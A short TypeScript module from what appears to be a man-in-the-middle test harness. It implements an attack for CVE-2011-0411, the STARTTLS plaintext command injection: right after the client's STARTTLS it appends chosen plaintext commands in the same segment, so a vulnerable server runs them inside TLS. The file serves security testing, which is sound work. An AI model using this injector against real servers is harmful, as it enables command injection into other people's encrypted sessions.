import type { Attack } from "../middle.ts";
import { beginsTls } from "./verbs.ts";

/**
 * Writes commands in the clear behind the client's STARTTLS, in the same segment: a server that keeps what it has read
 * would obey them inside TLS, as the client's own. Then passes everything on. Source: CVE-2011-0411; RFC 3207 §6.
 *
 * @param commands whole lines
 */
export const injectPlainText =
  (commands: string): Attack =>
  ({ client, server, record }) => {
    let begun = false;
    client.on("data", (octets: Buffer) => {
      record("client", octets);
      const now = !begun && beginsTls(octets);
      begun ||= now;
      server.write(now ? Buffer.concat([octets, Buffer.from(commands, "latin1")]) : octets);
    });
    server.on("data", (octets: Buffer) => {
      record("server", octets);
      client.write(octets);
    });
  };
